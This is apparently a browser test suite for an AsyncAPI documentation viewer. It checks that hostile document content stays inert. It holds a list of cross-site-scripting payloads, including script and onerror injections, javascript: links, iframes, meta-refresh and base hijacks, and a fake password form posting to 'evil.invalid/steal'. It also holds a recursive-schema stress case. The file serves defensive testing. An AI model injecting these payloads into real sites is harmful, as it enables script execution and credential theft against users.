"""A document from somebody hostile: markup and script in every text of it run nothing and reach nobody."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page, expect
from ruamel.yaml import YAML

from tests.browser import Watch
from tests.viewer.site import DOCUMENTS, EXPAND_ALL, Answer, Site

ELSEWHERE = "http://evil.invalid"

ATTACKS = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 2'>",
    f"<img src='{ELSEWHERE}/beacon.png' alt='beacon'>",
    "<svg><script>window.hacked = 3</script><a href='javascript:window.hacked = 4'>svg</a></svg>",
    "[link](javascript:window.hacked=5) <a href='javascript:window.hacked=6'>a</a>",
    f"<iframe src='{ELSEWHERE}/frame'></iframe><object data='{ELSEWHERE}/o'></object>",
    f"<form action='{ELSEWHERE}/steal'><input name='password'><button>Sign in</button></form>",
    f"<style>body {{ background: url({ELSEWHERE}/css) }} .page {{ display: none }}</style>",
    "<div style='position: fixed; inset: 0' class='header' id='chanspec-config'>over everything</div>",
    "<base href='http://evil.invalid/'><meta http-equiv='refresh' content='0;url=http://evil.invalid'>",
    "</script></style></textarea></title><b onmouseover='window.hacked = 7'>b</b>",
    "<details open ontoggle='window.hacked = 8'><math><mtext></math></details>",
    "{{constructor.constructor('window.hacked = 9')()}} ${window.hacked = 10}",
)

# Moves over every element, as a reader's mouse would, and names every link.
TOUCH_EVERYTHING = """
() => {
  for (const element of document.querySelectorAll('main *'))
    for (const kind of ['mouseover', 'focus', 'toggle', 'error', 'load'])
      element.dispatchEvent(new Event(kind))
  return [...document.querySelectorAll('main a[href]')].map(link => link.getAttribute('href'))
}
"""

# Members that the specification gives a fixed form; everything else that is text is attacked.
FIXED = {"$ref", "action", "asyncapi", "type", "schemaFormat", "in", "x-perspective"}


def attacked(value: Any, attack: str, key: str = "") -> Any:
    if isinstance(value, dict):
        return {name: attacked(item, attack, str(name)) for name, item in value.items()}
    if isinstance(value, list):
        return [attacked(item, attack, key) for item in value]
    if isinstance(value, str) and key not in FIXED:
        return f"javascript:window.hacked='{key}'" if "rl" in key.lower() else f"{value} {attack}"
    return value


def document(name: str) -> dict[str, Any]:
    loaded: dict[str, Any] = YAML(typ="safe").load(DOCUMENTS / f"{name}.yaml")
    loaded["info"]["externalDocs"] = {"url": "x", "description": "x"}
    loaded["info"]["termsOfServiceUrl"] = "x"
    loaded["info"]["x-logo"] = "x"
    loaded["info"]["tags"] = [{"name": "tag", "description": "d", "externalDocs": {"url": "x"}}]
    return loaded


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_in_every_text_runs_nothing(page: Page, site: Site, watch: Watch, attack: str) -> None:
    # No policy: what keeps the reader safe here is the page alone.
    site.policy = "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:"
    site.documents["/docs/x"] = Answer(b"not an image", "image/png")
    hostile = attacked(document("dispatch"), attack)
    hostile["info"]["termsOfService"] = "javascript:window.hacked='terms'"
    page.goto(site.offer(hostile=hostile))
    expect(page.locator("#operations")).to_be_attached()
    page.evaluate(EXPAND_ALL)
    addresses = page.evaluate(TOUCH_EVERYTHING)
    assert len(addresses) > 10
    unsafe = [a for a in addresses if not a.startswith(("#", "/", "http:", "https:", "mailto:"))]
    assert unsafe == []
    assert page.evaluate("window.hacked") is None
    inside = page.locator("main :is(script, style, iframe, object, embed, form, input:not([type=radio]), base)")
    expect(inside).to_have_count(0)
    expect(page.locator("main .prose [style], main .prose [id], main .prose [onerror]")).to_have_count(0)
    expect(page.locator(".header")).to_have_count(1)


def test_a_title_that_is_markup_is_text(page: Page, site: Site, watch: Watch) -> None:
    hostile = document("chatter")
    hostile["info"]["title"] = "<b>bold</b>"
    site.title = "</title><script>window.hacked = 1</script>"
    page.goto(site.offer(hostile=hostile))
    expect(page.locator("#introduction")).to_contain_text("<b>bold</b>")
    expect(page).to_have_title("<b>bold</b> · </title><script>window.hacked = 1</script>")
    assert page.evaluate("window.hacked") is None


def test_names_of_members_are_text_too(page: Page, site: Site, watch: Watch) -> None:
    name = "<img src=x onerror='window.hacked=1'>"
    hostile = {
        "asyncapi": "3.0.0",
        "info": {"title": "T", "version": "1", f"x-{name}": 1, "x-plain": name},
        "servers": {name: {"host": name, "protocol": name}},
        "channels": {name: {"address": name, "messages": {name: {"payload": {"type": "string"}}}}},
        "operations": {name: {"action": "send", "channel": {"$ref": f"#/channels/{name}"}}},
        "components": {"schemas": {name: {"type": "object", "properties": {name: {"type": "string"}}}}},
    }
    page.goto(site.offer(hostile=hostile))
    expect(page.locator("#operations")).to_contain_text(name)
    assert page.evaluate("window.hacked") is None


def test_a_heading_cannot_take_the_place_of_a_section(page: Page, site: Site, watch: Watch) -> None:
    hostile = document("chatter")
    hostile["info"]["description"] = "# operations\n\n<p id='operations'>fake</p>"
    page.goto(f"{site.offer(hostile=hostile)}#operations")
    expect(page.locator("#operations")).to_have_count(1)
    expect(page.locator("#operations")).to_contain_text("Client sends")


def test_types_that_multiply_do_not_stop_the_page(page: Page, site: Site, watch: Watch) -> None:
    names = [f"S{index}" for index in range(14)]
    schemas = {
        name: {
            "type": "object",
            "properties": {other: {"$ref": f"#/components/schemas/{other}"} for other in names},
        }
        for name in names
    }
    recursive_query = {"type": "object", "properties": {"q": {"$ref": "#/components/schemas/S0"}}}
    hostile = {
        "asyncapi": "3.0.0",
        "info": {"title": "Many", "version": "1"},
        "channels": {
            "c": {
                "address": "/",
                "bindings": {"ws": {"query": recursive_query}},
                "messages": {"m": {"payload": {"$ref": "#/components/schemas/S0"}}},
            }
        },
        "operations": {"o": {"action": "send", "channel": {"$ref": "#/channels/c"}}},
        "components": {"schemas": schemas},
    }
    page.goto(site.offer(hostile=hostile))
    expect(page.locator("#operation-send-o")).to_contain_text("S13")
